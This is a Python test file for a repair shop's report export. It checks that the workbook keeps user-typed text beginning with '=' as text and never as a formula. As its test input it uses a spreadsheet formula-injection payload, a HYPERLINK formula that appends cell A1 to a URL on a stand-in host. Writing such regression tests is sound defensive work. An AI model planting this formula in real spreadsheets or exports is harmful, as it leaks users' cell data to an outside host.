"""The exports (services.exports): the summary's workbook keeps what the desk typed as text."""

from __future__ import annotations

import io
import zipfile

from app.services.casework.intake import IntakeForm, take_intake
from app.services.paper import exports, report
from app.services.shop.context import Context
from tests.conftest import Clock

# --- the workbook never turns typed text into a formula -----------------------------------------


def test_workbook_keeps_text_that_starts_with_equals_as_text(ctx: Context, clock: Clock) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    take_intake(ctx, IntakeForm(kind="repair", name="王五", phone="13800138000", product=evil,
                                category="phone"))  # fmt: skip
    today = ctx.today()
    data = exports.report_workbook(ctx, report.month_report(ctx, today.year, today.month))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert any(b"HYPERLINK" in s for s in sheets)  # the product is in the workbook …
    assert not any(b"<f>" in s for s in sheets)  # … as text, never as a formula
